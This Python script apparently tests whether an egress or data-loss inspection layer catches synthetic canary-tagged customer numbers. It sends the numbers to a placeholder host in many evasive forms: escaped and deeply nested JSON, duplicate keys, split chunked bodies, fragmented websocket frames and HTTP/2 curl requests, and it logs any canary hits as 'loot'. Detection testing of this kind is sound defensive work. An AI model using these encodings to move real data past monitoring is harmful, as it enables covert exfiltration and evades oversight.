import gzip
import json
import subprocess
import zlib

from keys import request, tls
from rows import CANARY, each, mark, note, seconds, talk
from urllib.parse import quote

HOST = "api.example"


def number_of(row):
    """A customer's number, another one in each row."""
    return f"ACME-{zlib.crc32(row.encode()) % 900000 + 100000}-{zlib.crc32((CANARY + row).encode()) & 0xFFFF:04x}"


def json_of(row, number):
    deep = f'{"[" * 500}"{number}"{"]" * 500}'
    return {
        "json-escaped": '{"a": "to ' + number.replace("A", "\\u0041") + '"}',
        "json-key": json.dumps({number: 1}),
        "json-within": json.dumps({"a": json.dumps({"b": json.dumps([number])})}),
        "json-deep": deep,
        "json-twice": f'{{"a": "{number}", "a": "nothing"}}',
    }.get(row, json.dumps({"a": [1, f"to {number}."]}))


def multipart(number):
    return f'--x\r\nContent-Disposition: form-data; name="a"; filename="b.txt"\r\n\r\nto {number}\r\n--x--\r\n'


def address_of(row, number):
    escaped = number.replace("A", "%41").replace("-", "%2d")
    return {"address": f"/address?c={number}", "address-path": f"/address-path/{number}/", "address-escaped": f"/address-escaped?c={escaped}"}.get(row, f"/{row}")


def body_of(row, number):
    if row.startswith("address"):
        return b""
    if row.startswith("form"):
        return f"a=b&c={number.replace('-', '%2D') if row == 'form-escaped' else quote(number)}".encode()
    text = {"multipart": multipart(number), "text": f"to {number}", "unnamed": f"to {number}", "other-type": f"to {number}"}.get(row)
    body = (text or json_of(row, number)).encode()
    # Not made smaller: what arrives can be read on the wire.
    return gzip.compress(body, 0) if row == "gzip" else body


def send(row, kind=""):
    number = number_of(row)
    if row.startswith("websocket"):
        return socket(row, number.encode())
    if row == "http2":
        return subprocess.run(["curl", "-sk", "-m", seconds(5), "--http2", "-H", f"content-type: {kind}", "-d", body_of(row, number), f"https://{HOST}/{row}"], capture_output=True, timeout=9).stdout
    body = body_of(row, number)
    head = f"Content-Type: {kind}\r\n" if kind else ""
    if row in ("gzip", "brotli-said"):
        head += f"Content-Encoding: {'gzip' if row == 'gzip' else 'br'}\r\n"
    if row == "chunked":
        head += "Transfer-Encoding: chunked\r\n"
        start = body.index(b"ACME")
        body = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in (body[:start], body[start:])) + b"0\r\n\r\n"
    return request(HOST, address_of(row, number), head, body, {"get": "GET", "put": "PUT", "address": "GET"}.get(row))


def socket(row, payload):
    connection = tls(HOST)
    answer = talk(connection, f"GET /socket/x HTTP/1.1\r\nHost: {HOST}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n", 1)
    pieces = [payload[:9], payload[9:]] if row == "websocket-split" else [payload]
    frames = b"".join(bytes([(0x80 if at == len(pieces) - 1 else 0) | (0 if at else 1), 0x80 | len(piece), 0, 0, 0, 0]) + piece for at, piece in enumerate(pieces))
    return answer + talk(connection, frames, 0.5)


def perform(row, *kind):
    print(row, send(row, *kind)[:200])


def use_grant(row):
    answer = request(HOST, f"/{row}", "Content-Type: application/json\r\n", b'{"a": "ACME"}')
    print(row, answer)
    if CANARY.encode() in answer:
        note("loot", mark(row) + "\n")


each(perform, 6, use_grant)
